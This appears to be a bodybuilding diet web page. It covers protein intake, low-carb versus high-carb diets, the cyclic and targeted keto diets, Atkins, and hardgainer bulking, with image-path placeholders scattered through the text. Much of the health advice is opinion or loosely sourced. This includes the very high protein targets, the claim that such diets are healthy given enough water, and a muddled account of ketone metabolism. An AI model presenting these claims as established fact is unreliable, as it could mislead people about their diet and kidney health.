signalingand glucose re-cycling via alanine. These metabolic actions of leucine require plasma and intracellular concentrations to increase above minimum levels maintained by current dietary guidelines and dietary practices in the U.S. Initial findings support use of dietary at levels above 1.5 g/kg during weight loss. Further, our research suggests that increased use of high quality protein at breakfast maybe important for the metabolic advantage of a higher protein diet.

Source: J Am Coll Nutr. 2004 Dec;23(6 Suppl):631S-636S

Layman is recommending above 1.5 grams per kilogram, which is above 0.7 grams per pound of bodyweight.For a 200 lb overweight individual, that is 140 grams of protein. Notice he is recommending amounts significantly higher than the average recommended dosages. He doesn't say either, what an optimum amount of protein intake is for fat loss. Many studies have also found that older people require a higher protein intake too.

When is it too much protein in a bodybuilder diet?

What we seefrom the trend in the protein studies out there, is that there is definite benefits to higher protein intakes. The problem lies in the failure for science to have the answer on how much protein is the optimum intake for the most muscle growth or fat loss. So science doesn't have the answer yet, but bodybuilders have done well on very high protein diets, so the answer for now is with them I believe.

Bodybuilders often recommend around 1.5 grams of protein per pound of bodyweight. Some advocate much higher. Eventually increasing your protein will hit the point it's unhealthy and overkill. In body physiology, everything works on the "law of diminishing returns". As you increase your protein diet, eventually the gains will start diminishing per unit of increase. For example, increasing from 1.5 grams to 2 grams per pound of bodyweight is likely to not have the same muscle growth effect as increasing 1 gram to 1.5 grams. Pro-bodybuilders are at the top because they are willing to take massive amounts of protein, even if it only resultsin a few percent improvement in muscle gains, than if they had done half.

Too much protein is the point where the cons outweighs any negligible gains in muscle growth. Like with everything else we ingest, having too much protein could be unhealthy and very inconvenient. Protein does cause extra stress on the kidneys and liver. Drinking a lot of water helps ease the stress brought by digestion and elimination of protein in the liver and kidneys. Many health experts believe that high protein diets pose no health risk provided you drink plenty of water, the amount is not too excessive, and you have no kidney or liver disease. The answer to a near optimum amount for muscle gains, yet still also being a healthy amount for the kidneys and liver, is probably somewhere in around the 1.5 grams per pound mark.

Which is Healthier High Carb or Low Carb Diet?

Nutritionist and bodybuilders often claim low carbhigh protein dieting is unhealthy. They use the argument that low carb diets are unhealthy because they make you rely on consuming many unhealthy fattyfoods. I believe that aslong as you eat lean meat sources(such as chicken and fish) and other healthy food souces, that it will be healthier than a traditional higher carb diet commonly used among bodybuilders.

Research on High Carb Diet vs Low Carb Diet:

One study done for the North American Association for The Study of Obesity Conference compared high carbohydrate diet to a low carb high protein diet(Atkins diet). After 12 weeks those on the Atkin's diet lost more weight than the othergroup. This is expected as low carbs also cause you to lose weight. However, there were many healthy results seen by those on the atkins diet. Atkins dieters reduced blood triglycerides by 19%, while the high carb group only lowered it by 2.3%. HDL was increased by 9.8% in atkins dieters, but lowered 1.3% in other group. Atkins dieters had a increase of LDL and cholesterol while it lowered on the other group.

What does this all mean? Both diets give mixed results overall. We don't know what those dieters were eating on the Atkins diet. but we do know that Atkins is not discriminatory against high saturated fat sources. If one is to make sure to choose only healtheir sources of meats and foods for their fat sources, than low carb dieting might actually be healthier than a higher carb dieting.

Most Important Diet Factor: Carbohydrate or Calorie Restriction?

With the growing popularity of low carb dieting, one has to wonder if simply dropping carbs is really behind weight loss? Most bodybuilders and scientist believe it is common sense, that it all comes down to calories. If you simply eat more than you burn off you have to gain the weight. What does science on the issue say?

A study a few years ago by a group of researchers in Canada, compared groups of people on various calorie levels and carbohydrate ratios. Theresults found that calorie restriction was the most important factor in weight loss. No surprise there, something all of us bodybuilders knew all along. The research is based on "weight loss" however, but weight loss and fat loss are highly correlated anyways, so the study serves it's purpose.

Bodybuilding Diet on Vacation

Whether you decide to workout or not while on vacation, many bodybuilders feel the need to at least stay up with their diet. Relying on restaraunts to get all your protein needs, is expensive and a hassle or even out of reach.Foods bodybuilders should bring on vacation:

1) Protein bars. Even though they are expensive, there will be times you will be away from your hotel/cabin and a protein bar would be perfect.

2) Weight gainers. Great for your breakfast meal.

3) Protein powders is good for your night time meal
before bed.

4) Gallons of water. Put a few gallon water jugs in your cartrunk before you leave for vacation.

CKD (Cyclic Keto Diet)

Unlike the traditional Keto diet made for sedentary individuals, CKD is a Keto diet designed for active people, such as bodybuilders.

What is the CKD diet?

CKD stands for Cyclic Keto Diet. Once a week, you will load up your muscle glycogen through carb refeed days. This will help your body to have the energy and glycogen stores, to handle a excercise regimen during the week.

CKD Diet Guide:

One day a week you will pick a high carbohydrate day. If you have a weekday weight training split, then you will start your carb day beginning on friday, after your last workout. During this 24 hour phase you should have 10-12 grams of carbs per kilogram of lean mass. The carb loading phase will end about 24 hours later on saturday night. This will allow your muscle glycogen stores to refill (load). The rest of the week you will maintain very low carbohydrates in your diet.

On this carb loading day you can have cheat meals. Don't go completely overboard, but feel free to have that dessert you been craving all week. Youshould continue to lift heavy and not fall into the high rep myth for fat loss. The rest of the week, you will be very low carb days following the traditional keto diet.

TKD (Targeted Keto Diet)

TKD is a special form of the keto diet built around excercise workouts.

What is the TKD diet?

In the traditional keto diet, it is based around keeping carbohydrates low everyday. Excercise days are notconsidered because the regularketo diet is not targeted to active people, such as bodybuilders. TKD differentiates itself, inthat you will have a carb load before and after your workouts.

TKD Diet Guide:

Before and after your workout you will load up on a high carb meal. This will allow you the energy and recovery to finish an intense workout, while getting the benefits of a low carb diet.You should have around .3 -.4 grams of carbs per pound of bodyweight for each of the carb loading meals. You may have to adjust this slightly outside this range based on genetics,preferences, and your current goal.

The days you don't lift weights will be low carb days, following the traditional keto diet. Do not use your pre-workout meal as a cheat meal opportunity, as you may overeat making your weight training workout difficult. Continue to lift heavy weights in the medium rep range on this diet.

Atkins Diet & Bodybuilding

Atkins is a popular low carbohydrate diet among the mainstream, But how good of a fat loss diet is it for bodybuilders? Atkins is a high protein high fat and high protein low carb diet created by Dr. Atkins.Instead of having a lot of carbohydrates in the diet, you will be replacing most of them with fat and protein.

Is Atkins Diet healthy?

Due to the higher intake of fat, many are concerned about the health effects of the Atkins diet. According to research replacing carbs with fat actually causes lowering of triglycerides, HDL (good cholesterol) to go up, and dampening the harmful effects of LDL(bad cholesterol) through increasing it's size. In other words, the lower carbs reduce the negative effects of saturated fat in the diet. This does not mean that you should eat a lot of saturated fats, it just means the effects are reduced by a low carb diet.

Another concern is the high protein. Many are concerned about their kidneys. If you drink plenty of water and have no kidney ailments or pre-disposition, the diet is healthy.

With the lack of carbohydrates, some wonder if the body will have enough energy. The body, including the brain, over a couple weeks will slowly adjust it's metabolism to get most of it's glucosefrom protein and fat instead of carbohydrates. This process is called ketone metabolism. The body is highly adaptable and will quickly learn to efficiently metabolize high protein diet.

Atkins a good idea for bodybuilders?

Yes. Atkin's is actually very similiar to the Keto diet which is commonly used by bodybuilders.

Hardgainer Bulking Diet

Hardgainer is just a bodybuilding terminology for Ectomorph. Ectomorphs have various genetic differences, but the underlining commonality is they all are “skinny” and have a tough time gaining weight. Hardgainers have the hardest time during their bulking phases to get muscle packed on. Without gaining weight, it is impossible to get significant muscle gain. Getting adequate protein is even more important with hardgainers because of their fast metabolism that wants to burn up their hard earned muscle.

How many calories should hardgainers eat while bulking?

Every hardgainer has a slightly different metabolism depending on their age and genetics. The younger the person, the more likely their metabolism is higher. Larger people will also generally have more calorie needs than smaller.

A goodstarting base for experiment is to eat 20 times your bodyweight in overall calories a day. Thenutrient profile should be 40% protein, 40% carbs and 20% fatsources(mainly good fats).

I'm not gaining muscle, why?

Except for some newbies in the beginning, most need to eat a surplus of calories in order to gain muscle. If you aren't gaining muscle(and somefat along with it) then up your calories slightly. If after a few weeks, you put on too much fat, then your calorie amount is too high and should be recalculated to something lower.

On workout days you should have an extra 3 to 400 calories to replace the energy burned on your workout. Measuringyour calories carefully and sticking to it each day, is crucial to find out what works for your body. It is important you are extrastrict in the first few weeks to get a good idea of what worksand what doesn't.

Next Page »